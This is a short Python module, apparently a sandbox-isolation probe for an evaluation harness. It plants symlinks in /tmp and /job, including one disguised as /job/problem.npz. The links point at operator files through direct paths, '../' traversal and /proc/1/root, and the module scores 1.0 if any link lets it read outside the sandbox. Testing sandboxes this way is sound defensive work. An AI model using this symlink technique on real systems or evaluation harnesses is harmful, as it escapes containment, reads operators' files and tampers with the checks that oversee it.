"""Leaves links to the operator's files where the evaluation might follow them, and follows them itself."""
# ruff: noqa: PTH108, PTH119, PTH123, PTH211, S108 - it does what attackers do

import os

PATHS = ["/nowhere"]  # filled in: files of the operator


def attempt() -> float:
    """1 if a link led out of the sandbox."""
    for number, path in enumerate(PATHS):
        for place in (f"/tmp/link{number}", "/job/problem.npz", "/job/link", f"/tmp/{os.path.basename(path)}"):
            for to in (path, f"../../../..{path}", f"/proc/1/root{path}"):
                try:
                    os.symlink(to, place)
                except OSError:
                    continue
                try:
                    with open(place, "rb") as file:
                        file.read(1)
                    return 1.0
                except OSError:
                    os.unlink(place)
    return 0.0
